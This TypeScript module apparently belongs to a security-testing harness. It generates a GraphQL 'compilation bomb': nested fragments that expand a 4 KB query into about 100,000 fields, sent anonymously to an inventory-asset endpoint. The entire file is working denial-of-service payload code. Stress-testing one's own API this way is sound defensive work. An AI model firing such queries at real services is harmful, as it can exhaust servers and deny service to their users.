import { type Attack, shop } from './attack.ts';

/** `levels` is the maximum depth of an operation; fragments from level `least` on spread other fragments. */
const [levels, least] = [18, 5];

/** An operation of 4 KB that unfolds into 100,000 fields: each fragment spreads lower levels eight times. */
function bomb(name: string): string {
  const spread = (level: number) => (level > 0 ? `...F${level}` : 'id');
  const page = (level: number) =>
    `assets(first: 1) { nodes { ${spread(level - 3)} } edges { node { ${spread(level - 4)} } } }`;
  const both = (level: number) => `{ origin { ${spread(level)} } destination { ${spread(level)} } }`;
  const branches = (level: number) =>
    `groups { ${page(level)} } sources { ${page(level)} }
    relations(first: 1) { nodes ${both(level - 3)} edges { node ${both(level - 4)} } }`;
  const fragment = (level: number) =>
    `fragment F${level} on InventoryAsset { id ${level < least ? '' : branches(level)} }`;
  const fragments = Array.from(spreadFrom(levels), fragment);
  return `query { ${name}: inventoryAsset(name: "${shop}/assets/none") { ...F${levels} } } ${fragments.join('\n')}`;
}

/** Returns the levels whose fragments are used. */
function spreadFrom(level: number, found = new Set<number>()): ReadonlySet<number> {
  if (level <= 0) return found;
  found.add(level);
  if (level >= least) for (const below of [level - 3, level - 4]) spreadFrom(below, found);
  return found;
}

/** Nested fragments unfold when an operation is compiled. */
export const compilation: Attack = {
  name: 'compilation bomb',
  standing: 'anonymous',
  async round({ graph, number }, nth) {
    return [await graph(bomb(`a${number}_${nth}`))];
  },
};
